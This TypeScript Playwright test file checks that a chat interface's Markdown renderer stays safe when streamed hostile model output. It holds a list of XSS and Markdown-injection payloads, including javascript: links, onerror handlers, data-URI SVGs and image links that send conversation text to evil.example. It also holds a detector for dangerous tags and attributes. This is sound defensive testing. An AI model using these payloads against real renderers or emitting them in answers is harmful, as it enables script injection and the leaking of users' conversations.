// No text of a model may run or leave the origin, at whatever character it is cut.

import type { Page } from '@playwright/test';
import { type Chat, expect, test } from '../fixtures/test.ts';
import { frames } from '../fixtures/waiting.ts';

const AWAY = 'https://evil.example';

/** Based on OWASP's XSS filter evasion sheet and known faults of Markdown renderers, with some more. */
const PAYLOADS = [
  // scripts in raw HTML
  '<script>window.ran = 1</script>',
  `<script src="${AWAY}/x.js"></script>`,
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<<script>window.ran = 1//<</script>',
  '<scr<script>ipt>window.ran = 1</scr</script>ipt>',
  '<img src=x onerror="window.ran = 1">',
  '<img """><script>window.ran = 1</script>">',
  '<svg onload="window.ran = 1"><animate onbegin="window.ran = 1" attributeName=x dur=1s>',
  '<body onload=window.ran=1><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
  '<details open ontoggle="window.ran = 1"><summary>x</summary></details>',
  '<input autofocus onfocus="window.ran = 1"><video><source onerror="window.ran = 1"></video>',
  `<link rel=stylesheet href=${AWAY}/x.css><style>@import "${AWAY}/y.css"; body { background: url(${AWAY}/z) }</style>`,
  `<meta http-equiv=refresh content="0; url=${AWAY}/"><base href="${AWAY}/">`,
  `<form action="${AWAY}/"><button formaction="javascript:window.ran=1">x</button></form>`,
  `<object data="${AWAY}/x"></object><embed src="${AWAY}/x"><applet code=x></applet>`,
  '<math><mi xlink:href="javascript:window.ran=1">x</mi><annotation-xml encoding="text/html"><img src=x onerror=window.ran=1></annotation-xml></math>',
  '<div style="background: url(https://evil.example/s); width: expression(window.ran=1)">x</div>',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<a href="javascript:window.ran=1">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<x onclick=window.ran=1 tabindex=0 autofocus onfocus=window.ran=1>x</x>',
  // links
  '[x](javascript:window.ran=1)',
  '[x](JaVaScRiPt:window.ran=1)',
  '[x](java\tscript:window.ran=1)',
  '[x](<java\nscript:window.ran=1>)',
  '[x](&#106;avascript:window.ran=1)',
  '[x](javascript&colon;window.ran=1)',
  '[x](\u0001javascript:window.ran=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)',
  '[x](vbscript:window.ran=1) [y](file:///etc/passwd) [z](blob:https://evil.example/x) [w](//evil.example/x) [v](/login/demo)',
  '<javascript:window.ran=1>',
  '[x]: javascript:window.ran=1\n\n[x] and [x][]',
  `[x](${AWAY}/" onmouseover="window.ran=1)`,
  `[x](${AWAY}/ "title\\" onmouseover=\\"window.ran=1")`,
  // pictures that take words with them
  `![x](${AWAY}/collect?q=what+was+said)`,
  `![x][i]\n\n[i]: ${AWAY}/collect?q=what+was+said`,
  `[![x](${AWAY}/a.png)](${AWAY}/b)`,
  '![x](//evil.example/a.png) ![y](http:evil.example/a.png) ![z](\\\\evil.example\\a.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5yYW49MSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)',
  '![x](data:image/svg+xml,<svg/onload=parent.ran=1>)',
  '![x](javascript:window.ran=1) ![y](blob:https://evil.example/x)',
  '![" onerror="window.ran=1](x) ![x](x" onerror="window.ran=1)',
  `![x](data:image/png;base64,iVBORw0KGgo${AWAY})`,
  // code, tables, formulas, footnotes
  '```"><script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```',
  '```html onload=window.ran=1\n<script>window.ran=1</script>\n```',
  '`<script>window.ran=1</script>`',
  '| <script>window.ran=1</script> | b |\n|---|---|\n| ![x](https://evil.example/t) | <img src=x onerror=window.ran=1> |',
  '$\\href{javascript:window.ran=1}{x}$ and $$\\includegraphics{https://evil.example/m}$$',
  '$\\text{<img src=x onerror=window.ran=1>}$ and \\[\\url{https://evil.example/u}\\]',
  '$\\style{background:url(https://evil.example/s)}{x}$ $\\class{x}{y}$ $\\unicode{x}$',
  'x[^<script>]\n\n[^<script>]: ![n](https://evil.example/n) <img src=x onerror=window.ran=1>',
  '```js\n"\u202E } ⁦if (admin)⁩ ⁦ begin"\n```',
  `https://evil.example@good.example/ and ${AWAY}/%22onmouseover=window.ran=1`,
  '# <img src=x onerror=window.ran=1>\n\n> <script>window.ran=1</script>\n\n- <svg/onload=window.ran=1>',
];

/** Records what must not happen. */
async function watch(page: Page): Promise<{ away: string[]; violations: () => Promise<number>; ran: () => Promise<unknown> }> {
  const away: string[] = [];
  const origin = new URL(page.url()).origin;
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:')) away.push(url);
  });
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame() || !frame.url().startsWith(origin)) away.push(`navigated: ${frame.url()}`);
  });
  page.on('dialog', (dialog) => {
    away.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.evaluate(() => {
    Object.assign(window, { violations: 0 });
    document.addEventListener('securitypolicyviolation', () => {
      (window as unknown as { violations: number }).violations += 1;
    });
  });
  return {
    away,
    violations: () => page.evaluate(() => (window as unknown as { violations: number }).violations),
    ran: () => page.evaluate(() => (window as unknown as { ran?: unknown }).ran ?? null),
  };
}

/** Everything in the answers' text that could run, fetch or navigate. */
async function dangers(chat: Chat): Promise<string[]> {
  return chat.page.evaluate(() => {
    const found: string[] = [];
    const allowed = /^(?:https?|mailto):/;
    for (const element of document.querySelectorAll('.text, .text *')) {
      const name = element.localName;
      if (/^(?:script|style|iframe|object|embed|form|input|link|meta|base|svg|video|audio|source|template|foreignobject|annotation-xml)$/.test(name)) found.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        if (/^on|^style$|^srcdoc$|^formaction$|xlink/.test(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === 'href' && !allowed.test(value)) found.push(`${name} href ${value}`);
        if (attribute === 'src' && !/^data:image\/(?:png|jpeg|gif|webp|avif);base64,/.test(value)) found.push(`${name} src ${value}`);
      }
      if (name === 'a' && (element.getAttribute('rel') !== 'noopener noreferrer nofollow' || element.getAttribute('target') !== '_blank')) found.push('a without rel');
    }
    return found;
  });
}

async function answer(chat: Chat, next: () => Promise<import('../fixtures/upstream.ts').Exchange>, text: string): Promise<void> {
  await chat.ask('Go on');
  const exchange = await next();
  exchange.answer(text);
  await chat.answered();
}

test('whole payloads run nothing, fetch nothing and violate nothing', async ({ chat, upstream }) => {
  test.setTimeout(120_000);
  const watched = await watch(chat.page);
  // Several in one answer: the number of requests a minute is limited.
  for (let at = 0; at < PAYLOADS.length; at += 3) {
    await answer(chat, () => upstream.next(), PAYLOADS.slice(at, at + 3).join('\n\n---\n\n'));
  }
  await answer(chat, () => upstream.next(), PAYLOADS.join('\n\n'));
  // Hovering over links is harmless, too.
  for (const link of await chat.text.locator('a, span.refused').all()) await link.hover({ force: true, timeout: 500 }).catch(() => {});
  expect(await dangers(chat)).toEqual([]);
  expect(watched.away).toEqual([]);
  expect(await watched.ran()).toBeNull();
  expect(await watched.violations()).toBe(0);
});

test('payloads cut at every byte do no more', async ({ chat, upstream }) => {
  test.setTimeout(120_000);
  const watched = await watch(chat.page);
  // One character a delta covers every cut: each prefix is shown before the next comes.
  await chat.ask('All of it');
  const exchange = await upstream.next();
  let cuts = 0;
  for (const payload of PAYLOADS) {
    for (const letter of `${payload}\n\n---\n\n`) {
      exchange.say(letter);
      cuts += 1;
      // The page shows what came once a frame.
      if (cuts % 4 === 0) await frames(chat.page, 1);
    }
    expect(await dangers(chat), payload).toEqual([]);
  }
  exchange.finish();
  await chat.answered();
  console.log(`${PAYLOADS.length} payloads, ${cuts} cuts`);
  expect(await dangers(chat)).toEqual([]);
  expect(watched.away).toEqual([]);
  expect(await watched.ran()).toBeNull();
  expect(await watched.violations()).toBe(0);
});

test('answers that were cut short stay harmless', async ({ chat, upstream }) => {
  test.setTimeout(120_000);
  const watched = await watch(chat.page);
  for (const payload of PAYLOADS.filter((_, index) => index % 6 === 0)) {
    for (const at of [1, 2, 3].map((part) => Math.floor((payload.length * part) / 4))) {
      await answer(chat, () => upstream.next(), payload.slice(0, at));
    }
  }
  expect(await dangers(chat)).toEqual([]);
  expect(watched.away).toEqual([]);
  expect(await watched.ran()).toBeNull();
  expect(await watched.violations()).toBe(0);
});

test('a picture from another origin becomes a link that names its host; links show their address', async ({ chat, upstream }) => {
  await answer(chat, () => upstream.next(), `![a cat](${AWAY}/cat.png) and [my bank](https://bank.example.evil.example/x) and [no](javascript:x)`);
  await expect(chat.text.getByRole('link', { name: 'a cat (at evil.example)' })).toHaveAttribute('target', '_blank');
  const link = chat.text.getByRole('link', { name: 'my bank' });
  await expect(link).toHaveAttribute('title', 'https://bank.example.evil.example/x');
  await expect(chat.text.locator('img')).toHaveCount(0);
  await expect(chat.text.getByText('no', { exact: true })).toHaveAttribute('data-address', 'javascript:x');
  // The address is shown for keyboard focus, too.
  await expect(async () => {
    await chat.composer.focus();
    await chat.text.getByRole('link').first().focus();
    await chat.page.keyboard.press('Tab');
    await expect(chat.page.locator('.address')).toHaveText('https://bank.example.evil.example/x');
  }).toPass();
});

test('characters that turn the direction of code are shown, and copied as they are', async ({ chat, upstream, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await chat.ask('Code');
  const exchange = await upstream.next();
  exchange.say('```js\nif (a) { // \u202E');
  await expect(chat.text.locator('.turn-mark')).toHaveAttribute('data-code', 'U+202E');
  exchange.say('} \u2066ok\n```\n\nAnd `b\u202Ec`.');
  exchange.finish();
  await chat.answered();
  await expect(chat.text.locator('.line .turn-mark')).toHaveCount(2);
  await expect(chat.text.locator('p .turn-mark')).toHaveCount(1);
  await chat.text.getByRole('button', { name: 'Copy', exact: true }).click();
  await expect(chat.text.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('if (a) { // \u202E} \u2066ok\n');
});
